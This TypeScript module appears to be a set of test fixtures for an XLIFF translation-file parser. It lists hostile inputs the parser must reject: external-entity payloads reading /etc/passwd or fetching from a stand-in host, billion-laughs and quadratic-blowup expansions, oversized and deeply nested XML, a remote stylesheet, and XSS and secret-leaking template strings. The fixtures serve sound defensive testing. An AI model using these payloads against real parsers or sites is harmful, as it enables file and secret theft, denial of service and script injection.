/** What somebody might hand over as XLIFF so that it does something, reads something, or costs too much. */
export type XliffAttack = { readonly what: string; readonly xml: string };

const open =
  '<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="de" trgLang="ti">';
const around = (inner: string) =>
  `${open}<file id="guides.x.new"><unit id="title"><segment><source>A</source><target>${inner}</target></segment></unit></file></xliff>`;
const many = (text: string, times: number) => text.repeat(times);

const laughs = Array.from({ length: 10 }, (_, i) =>
  i === 0 ? '<!ENTITY l0 "ha">' : `<!ENTITY l${i} "${many(`&l${i - 1};`, 10)}">`,
).join("");

/** Nothing of these is read at all. */
export const xliffAttacks: readonly XliffAttack[] = [
  { what: "a document type", xml: `<!DOCTYPE xliff>${around("x")}` },
  { what: "a document type in small letters", xml: `<!doctype xliff>${around("x")}` },
  {
    what: "an entity from a file",
    xml: `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${around("&e;")}`,
  },
  {
    what: "an entity from the network",
    xml: `<!DOCTYPE x [<!ENTITY e SYSTEM "http://evil.test/">]>${around("&e;")}`,
  },
  {
    what: "a parameter entity",
    xml: `<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.test/x.dtd"> %e;]>${around("x")}`,
  },
  {
    what: "a document type from elsewhere",
    xml: `<!DOCTYPE x SYSTEM "http://evil.test/x.dtd">${around("x")}`,
  },
  {
    what: "a public document type",
    xml: `<!DOCTYPE x PUBLIC "-//x" "http://evil.test/x.dtd">${around("x")}`,
  },
  { what: "a billion laughs", xml: `<!DOCTYPE x [${laughs}]>${around("&l9;")}` },
  {
    what: "quadratic blowup",
    xml: `<!DOCTYPE x [<!ENTITY a "${many("a", 50_000)}">]>${around(many("&a;", 5_000))}`,
  },
  { what: "an entity nobody has named", xml: around("&secret;") },
  { what: "a null by its number", xml: around("&#0;") },
  { what: "half of a surrogate pair", xml: around("&#xD800;") },
  { what: "no end", xml: around("x").slice(0, -8) },
  { what: "elements that cross", xml: around("<pc id='1'><mrk id='2'></pc></mrk>") },
  { what: "an attribute twice", xml: around('<ph id="1" id="2"/>') },
  { what: "too many levels", xml: around(many('<mrk id="m">', 50_000)) },
  { what: "many levels that end", xml: around(many("<mrk>", 5_000) + many("</mrk>", 5_000)) },
  { what: "too much of it", xml: around(many("x", 5 * 1024 * 1024)) },
  {
    what: "another format",
    xml: '<xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" version="1.2"/>',
  },
  { what: "a version to come", xml: around("x").replace('version="2.0"', 'version="3.0"') },
  { what: "another root", xml: "<html><body>x</body></html>" },
  { what: "nothing", xml: "" },
  { what: "no XML", xml: "{process.env.AUTH_SECRET}" },
  { what: "two roots", xml: around("x") + around("y") },
  { what: "a style sheet to run", xml: `<?xml-stylesheet href="http://evil.test/x.xsl"?><x/>` },
];

/** Read as XML, and refused as what they say: a unit with this in it is not taken. */
export const xliffTexts: readonly string[] = [
  "{process.env.AUTH_SECRET}",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<![CDATA[<script>alert(1)</script>]]>",
  "&#60;img src=&#34;x&#34; onerror=&#34;alert(1)&#34; /&#62;",
  "[x](javascript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "import fs from &quot;node:fs&quot;",
  "a&#x202E;b",
  "a&#x2066;b",
  "---&#10;title: x&#10;---&#10;{process.env.X}",
];
